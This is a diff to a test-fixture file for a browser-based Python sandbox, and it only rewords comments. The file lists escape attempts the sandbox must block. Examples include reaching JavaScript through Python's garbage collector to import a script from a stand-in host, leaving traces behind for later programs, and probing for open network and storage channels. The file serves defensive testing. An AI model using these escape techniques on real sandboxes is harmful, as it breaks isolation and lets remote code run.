@@ -1,12 +1,12 @@
-// Ways in which a program might leave Python, or leave something behind for the next one.
+// Ways a program might escape from Python, or leave something for the next program.
 
-/** Python's own view of the JavaScript around it, however well it is hidden. */
+/** Python's hidden reference to JavaScript. */
 const JS =
   "import gc\njs = [o for o in gc.get_objects() if type(o).__name__ == 'JsFinder'][0].jsproxies['js']\n";
 const MODULE = (name: string) =>
   `import gc, types\nm = [o for o in gc.get_objects() if type(o) is types.ModuleType and o.__name__ == '${name}'][0]\n`;
 
-/** Each raises an error, or prints nothing but `no`. */
+/** Each must raise an error, or print nothing but `no`. */
 export const ESCAPE_ATTEMPTS: readonly (readonly [name: string, program: string])[] = [
   ['gc and a timer', `${JS}js.setTimeout("import('https://elsewhere.example/x.js')", 0)`],
   [
@@ -73,7 +73,7 @@ export const ESCAPE_ATTEMPTS: readonly (readonly [name: string, program: string]
   ],
 ];
 
-/** A program that leaves what it can, and one that looks for it. */
+/** A program that leaves traces, and one that looks for them. */
 export const LEAVE_TRACES =
   'import builtins, math, sys, torch\nmath.kept = torch.ones(1)._handle\nbuiltins.kept = math.kept\nsys.kept = 1\ntry:\n    torch.ones(1)._handle.constructor.anything = 5\nexcept BaseException:\n    pass';
 export const FIND_TRACES =
@@ -81,8 +81,8 @@ export const FIND_TRACES =
 export const NO_TRACES = 'False False False tensor(2.)\n';
 
 /**
- * Runs in a page of the site: which ways to network, storage and code from text are open to a worker in the frame of
- * Python, if it could run any JavaScript. `elsewhere`: a server that answers everybody.
+ * Runs in a page: which channels to network, storage and eval are open to JavaScript in Python's frame. `elsewhere`: a
+ * server that answers every request.
  */
 export async function findOpenChannels(frame: string, elsewhere: string): Promise<string[]> {
   const attack = (target: string) => {
@@ -125,13 +125,13 @@ export async function findOpenChannels(frame: string, elsewhere: string): Promis
         new Promise((ok, fail) =>
           Object.assign(indexedDB.open('x'), { onsuccess: ok, onerror: fail }),
         ),
-      // WebKit gives each frame without an origin a cache of its own, which must not be there for the next.
+      // WebKit gives each frame without an origin its own cache, which must be empty for the next.
       'caches of an earlier program': async () => {
         const isKept = await caches.has('x');
         await caches.open('x');
         if (!isKept) throw new Error('new');
       },
-      // It has to be possible, or nothing that runs here would be.
+      // This must work, or the other results mean nothing.
       WebAssembly: () => WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)),
     };
     const tried = Object.entries(ways).map(async ([name, way]) => {
